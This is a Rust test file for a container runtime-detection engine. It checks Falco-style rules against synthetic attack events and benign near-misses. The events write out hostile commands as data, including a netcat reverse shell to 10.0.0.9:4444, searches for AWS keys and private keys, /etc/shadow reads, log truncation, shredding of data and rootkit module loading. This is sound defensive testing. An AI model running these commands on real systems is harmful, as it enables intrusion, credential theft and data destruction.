//! Upstream stable rules against synthetic events: each attack event fires its rule, and a
//! benign near-miss of it fires no rule at all.

mod common;

use brainbox_rules::{Capabilities, OwnedEvent, RuleSet};
use serde_json::{json, Value as J};

fn rules() -> RuleSet {
    RuleSet::load_files(&[common::upstream()], &Capabilities::default()).unwrap()
}

/// A process event in a brainbox container, with `extra` fields merged in.
fn ev(extra: J) -> OwnedEvent {
    let mut base = json!({
        "evt.num": 1042,
        "container.id": "3f2a9c1b7d4e",
        "container.name": "brainbox-agent",
        "container.image.repository": "ghcr.io/acme/agent",
        "container.privileged": false,
        "user.name": "root",
        "user.uid": 0,
        "user.loginuid": -1,
        "proc.pid": 4242,
        "proc.ppid": 4200,
        "proc.tty": 0,
        "proc.duration": 60_000_000_000i64,
        "proc.cwd": "/workspace/",
        "proc.name": "python3",
        "proc.exe": "/usr/bin/python3",
        "proc.exepath": "/usr/bin/python3",
        "proc.cmdline": "python3 agent.py",
        "proc.args": "agent.py",
        "proc.pname": "python3",
        "proc.pexe": "/usr/bin/python3",
        "proc.pcmdline": "python3 main.py",
        "proc.anames": ["python3", "tini", "containerd-shim"],
        "proc.is_exe_upper_layer": false,
        "proc.is_exe_from_memfd": false,
        "thread.cap_effective": "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETUID CAP_SETGID CAP_NET_BIND_SERVICE",
    });
    for (k, v) in extra.as_object().unwrap() {
        base[k] = v.clone();
    }
    OwnedEvent::from_json_value(&base).unwrap_or_else(|e| panic!("bad event {extra}: {e}"))
}

fn exec(name: &str, exe: &str, args: &str, extra: J) -> OwnedEvent {
    let mut e = json!({
        "evt.type": "execve",
        "evt.res": "SUCCESS",
        "evt.rawres": 0,
        "proc.name": name,
        "proc.exe": exe,
        "proc.exepath": exe,
        "proc.cmdline": format!("{name} {args}").trim_end().to_owned(),
        "proc.args": args,
    });
    for (k, v) in extra.as_object().unwrap() {
        e[k] = v.clone();
    }
    ev(e)
}

fn open_ev(path: &str, dir: &str, file: &str, write: bool, flags: &str, extra: J) -> OwnedEvent {
    let mut e = json!({
        "evt.type": "openat",
        "evt.res": "SUCCESS",
        "evt.rawres": 3,
        "evt.is_open_read": !write,
        "evt.is_open_write": write,
        "evt.arg.flags": flags,
        "fd.num": 3,
        "fd.type": "file",
        "fd.typechar": "f",
        "fd.name": path,
        "fd.nameraw": path,
        "fd.directory": dir,
        "fd.filename": file,
    });
    for (k, v) in extra.as_object().unwrap() {
        e[k] = v.clone();
    }
    ev(e)
}

fn fired(rs: &RuleSet, e: &OwnedEvent) -> Vec<String> {
    rs.matches(e).into_iter().map(|r| r.name.clone()).collect()
}

/// Asserts `attack` fires `rule` and `benign` fires nothing.
fn case(rs: &RuleSet, rule: &str, attack: OwnedEvent, benign: OwnedEvent) {
    let r = rs.rule(rule).unwrap_or_else(|| panic!("no rule {rule}"));
    assert!(
        r.evaluable,
        "{rule} not evaluable: {:?}",
        r.not_evaluable_reason
    );
    let got = fired(rs, &attack);
    assert!(
        got.iter().any(|n| n == rule),
        "{rule} did not fire on attack; fired {got:?}"
    );
    let got = fired(rs, &benign);
    assert!(got.is_empty(), "benign near-miss for {rule} fired {got:?}");
    // The uncompiled-AST interpreter agrees (differential check of the compiler).
    let naive = brainbox_rules::naive::NaiveEngine::load(&[common::upstream()]).unwrap();
    assert!(
        naive.matches(&attack).iter().any(|n| n == rule),
        "naive engine disagrees on {rule}"
    );
    assert!(
        naive.matches(&benign).is_empty(),
        "naive engine fires on benign {rule}"
    );
}

#[test]
fn terminal_shell_in_container() {
    let rs = rules();
    case(
        &rs,
        "Terminal shell in container",
        exec(
            "bash",
            "/bin/bash",
            "",
            json!({"proc.tty": 34816, "proc.pname": "runc", "proc.anames": ["runc", "containerd-shim"]}),
        ),
        // Same shell, no terminal (a script's `sh -c`).
        exec(
            "bash",
            "/bin/bash",
            "-c true",
            json!({"proc.tty": 0, "proc.pname": "runc", "proc.anames": ["runc", "containerd-shim"]}),
        ),
    );
}

#[test]
fn read_sensitive_file_untrusted() {
    let rs = rules();
    case(
        &rs,
        "Read sensitive file untrusted",
        open_ev(
            "/etc/shadow",
            "/etc",
            "shadow",
            false,
            "O_RDONLY",
            json!({}),
        ),
        open_ev("/etc/hosts", "/etc", "hosts", false, "O_RDONLY", json!({})),
    );
}

#[test]
fn find_aws_credentials() {
    let rs = rules();
    case(
        &rs,
        "Find AWS Credentials",
        exec(
            "grep",
            "/bin/grep",
            "-ri aws_secret_access_key /root",
            json!({}),
        ),
        exec("grep", "/bin/grep", "-ri error /var/log/app.log", json!({})),
    );
}

#[test]
fn execution_from_dev_shm() {
    let rs = rules();
    case(
        &rs,
        "Execution from /dev/shm",
        exec("x", "/dev/shm/x", "", json!({})),
        exec("x", "/usr/local/bin/x", "", json!({})),
    );
}

#[test]
fn netcat_rce() {
    let rs = rules();
    case(
        &rs,
        "Netcat Remote Code Execution in Container",
        exec("nc", "/usr/bin/nc", "-e /bin/sh 10.0.0.9 4444", json!({})),
        exec("nc", "/usr/bin/nc", "-z db 5432", json!({})),
    );
}

#[test]
fn clear_log_activities() {
    let rs = rules();
    case(
        &rs,
        "Clear Log Activities",
        open_ev(
            "/var/log/syslog",
            "/var/log",
            "syslog",
            true,
            "O_WRONLY|O_CREAT|O_TRUNC",
            json!({"proc.name": "bash"}),
        ),
        open_ev(
            "/var/log/syslog",
            "/var/log",
            "syslog",
            true,
            "O_WRONLY|O_APPEND",
            json!({"proc.name": "bash"}),
        ),
    );
}

#[test]
fn search_private_keys() {
    let rs = rules();
    case(
        &rs,
        "Search Private Keys or Passwords",
        exec("grep", "/bin/grep", "-r \"BEGIN RSA PRIVATE\" /", json!({})),
        exec("grep", "/bin/grep", "-r TODO src/", json!({})),
    );
    case(
        &rs,
        "Search Private Keys or Passwords",
        exec("find", "/usr/bin/find", "/ -name id_rsa", json!({})),
        exec("find", "/usr/bin/find", ". -name '*.py'", json!({})),
    );
}

#[test]
fn remove_bulk_data() {
    let rs = rules();
    case(
        &rs,
        "Remove Bulk Data from Disk",
        exec("shred", "/usr/bin/shred", "-u /data/db", json!({})),
        exec("rm", "/bin/rm", "-f /tmp/cache", json!({})),
    );
}

#[test]
fn create_symlink_over_sensitive_files() {
    let rs = rules();
    let sym = |target: &str| {
        ev(
            json!({"evt.type": "symlinkat", "evt.rawres": 0, "evt.res": "SUCCESS",
                  "evt.arg.target": target, "evt.arg.linkpath": "/tmp/link", "proc.name": "ln"}),
        )
    };
    case(
        &rs,
        "Create Symlink Over Sensitive Files",
        sym("/etc/shadow"),
        sym("/tmp/data.json"),
    );
    case(
        &rs,
        "Create Symlink Over Sensitive Files",
        sym("/root"),
        sym("/root/notes"),
    );
}

#[test]
fn packet_socket() {
    let rs = rules();
    let sock = |domain: &str| {
        ev(
            json!({"evt.type": "socket", "evt.rawres": 3, "evt.arg.domain": domain,
                  "evt.arg.type": "SOCK_RAW", "proc.name": "scapy"}),
        )
    };
    case(
        &rs,
        "Packet socket created in container",
        sock("AF_PACKET"),
        sock("AF_INET"),
    );
}

#[test]
fn ptrace_attached() {
    let rs = rules();
    let pt = |req: &str| {
        ev(
            json!({"evt.type": "ptrace", "evt.rawres": 0, "evt.arg.request": req, "evt.arg.pid": "77",
                  "proc.name": "gdb"}),
        )
    };
    case(
        &rs,
        "PTRACE attached to process",
        pt("PTRACE_ATTACH"),
        pt("PTRACE_GETREGS"),
    );
    case(
        &rs,
        "PTRACE anti-debug attempt",
        pt("PTRACE_TRACEME"),
        pt("PTRACE_PEEKUSR"),
    );
}

#[test]
fn fileless_execution_memfd() {
    let rs = rules();
    case(
        &rs,
        "Fileless execution via memfd_create",
        exec(
            "3",
            "memfd:payload",
            "",
            json!({"proc.is_exe_from_memfd": true, "proc.exepath": "memfd:payload"}),
        ),
        // runc re-executes itself from a memfd on every container start: allowed by upstream.
        exec(
            "runc",
            "memfd:runc_cloned:/proc/self/exe",
            "init",
            json!({"proc.is_exe_from_memfd": true}),
        ),
    );
}

#[test]
fn drop_and_execute() {
    let rs = rules();
    case(
        &rs,
        "Drop and execute new binary in container",
        exec(
            "miner",
            "/tmp/miner",
            "--pool x",
            json!({"proc.is_exe_upper_layer": true}),
        ),
        exec(
            "ls",
            "/bin/ls",
            "-l",
            json!({"proc.is_exe_upper_layer": false}),
        ),
    );
}

#[test]
fn kernel_module_injection() {
    let rs = rules();
    let m = |caps: &str| {
        ev(
            json!({"evt.type": "finit_module", "evt.rawres": 0, "evt.res": "SUCCESS",
                  "proc.name": "insmod", "proc.args": "rootkit.ko", "thread.cap_effective": caps}),
        )
    };
    case(
        &rs,
        "Linux Kernel Module Injection Detected",
        m("CAP_SYS_MODULE CAP_SYS_ADMIN"),
        m("CAP_CHOWN CAP_NET_BIND_SERVICE"),
    );
}

#[test]
fn redirect_stdio_to_network() {
    let rs = rules();
    let d = |fdtype: &str, typechar: &str| {
        ev(
            json!({"evt.type": "dup2", "evt.rawres": 1, "evt.res": "SUCCESS", "fd.type": fdtype,
                  "fd.typechar": typechar, "fd.num": 3, "fd.name": "10.0.0.5:40000->10.0.0.9:4444",
                  "fd.sip": "10.0.0.9", "fd.l4proto": "tcp", "proc.name": "bash"}),
        )
    };
    case(
        &rs,
        "Redirect STDOUT/STDIN to Network Connection in Container",
        d("ipv4", "4"),
        d("file", "f"),
    );
}

#[test]
fn ssh_non_standard_port() {
    let rs = rules();
    let c = |sport: i64, ip: &str| {
        ev(
            json!({"evt.type": "connect", "evt.rawres": 0, "evt.res": "SUCCESS", "fd.type": "ipv4",
                  "fd.typechar": "4", "fd.num": 3, "fd.l4proto": "tcp", "fd.sport": sport, "fd.sip": ip,
                  "fd.ip": ip, "fd.net": ip, "fd.snet": ip, "fd.name": format!("172.17.0.2:51000->{ip}:{sport}"),
                  "proc.name": "ssh", "proc.exe": "/usr/bin/ssh", "proc.exepath": "/usr/bin/ssh"}),
        )
    };
    case(
        &rs,
        "Disallowed SSH Connection Non Standard Port",
        c(4444, "203.0.113.7"),
        c(22, "203.0.113.7"),
    );
    // Same port but to a private (RFC 1918) address: not outbound.
    assert!(fired(&rs, &c(4444, "10.1.2.3")).is_empty());
}

#[test]
fn debugfs_in_privileged_container() {
    let rs = rules();
    case(
        &rs,
        "Debugfs Launched in Privileged Container",
        exec(
            "debugfs",
            "/sbin/debugfs",
            "/dev/sda1",
            json!({"container.privileged": true}),
        ),
        exec(
            "debugfs",
            "/sbin/debugfs",
            "/dev/sda1",
            json!({"container.privileged": false}),
        ),
    );
}

#[test]
fn run_shell_untrusted() {
    let rs = rules();
    case(
        &rs,
        "Run shell untrusted",
        exec(
            "sh",
            "/bin/sh",
            "-c id",
            json!({"proc.pname": "nginx", "proc.anames": ["nginx", "containerd-shim"]}),
        ),
        exec(
            "sh",
            "/bin/sh",
            "-c id",
            json!({"proc.pname": "make", "proc.anames": ["make", "bash"]}),
        ),
    );
}

#[test]
fn benign_workload_fires_nothing() {
    let rs = rules();
    let benign = [
        exec("python3", "/usr/bin/python3", "agent.py", json!({})),
        exec("pip", "/usr/local/bin/pip", "install requests", json!({})),
        exec(
            "git",
            "/usr/bin/git",
            "clone https://example.invalid/repo",
            json!({}),
        ),
        exec("ls", "/bin/ls", "-la", json!({})),
        open_ev(
            "/workspace/out.txt",
            "/workspace",
            "out.txt",
            true,
            "O_WRONLY|O_CREAT|O_TRUNC",
            json!({}),
        ),
        open_ev(
            "/etc/resolv.conf",
            "/etc",
            "resolv.conf",
            false,
            "O_RDONLY",
            json!({}),
        ),
        open_ev(
            "/usr/lib/python3/os.py",
            "/usr/lib/python3",
            "os.py",
            false,
            "O_RDONLY",
            json!({}),
        ),
        ev(
            json!({"evt.type": "connect", "evt.rawres": 0, "fd.type": "ipv4", "fd.typechar": "4", "fd.l4proto": "tcp",
                  "fd.sport": 8443, "fd.sip": "10.0.0.2", "fd.ip": "10.0.0.2", "fd.net": "10.0.0.2", "fd.snet": "10.0.0.2",
                  "proc.name": "python3"}),
        ),
        ev(
            json!({"evt.type": "socket", "evt.rawres": 3, "evt.arg.domain": "AF_INET", "proc.name": "python3"}),
        ),
    ];
    for e in &benign {
        let got = fired(&rs, e);
        assert!(got.is_empty(), "benign {:?} fired {got:?}", e.to_json());
    }
}

#[test]
fn output_is_rendered_and_redacted() {
    let rs = rules();
    let e = exec(
        "grep",
        "/bin/grep",
        "-ri aws_secret_access_key=AKIAABCDEFGHIJKLMNOP /root",
        json!({}),
    );
    let r = rs
        .matches(&e)
        .into_iter()
        .find(|r| r.name == "Find AWS Credentials")
        .unwrap();
    let redact = |s: &str| s.replace("AKIAABCDEFGHIJKLMNOP", "[REDACTED:aws_key]");
    let out = r.render_output(&e, &redact);
    assert!(
        out.starts_with("Detected AWS credentials search activity | "),
        "{out}"
    );
    assert!(out.contains("process=grep"), "{out}");
    assert!(
        out.contains("command=grep -ri aws_secret_access_key=[REDACTED:aws_key] /root"),
        "{out}"
    );
    assert!(!out.contains("AKIA"), "{out}");
    // A field the event does not carry prints as <NA>, like Falco.
    assert!(out.contains("group_name=<NA>"), "{out}");
}
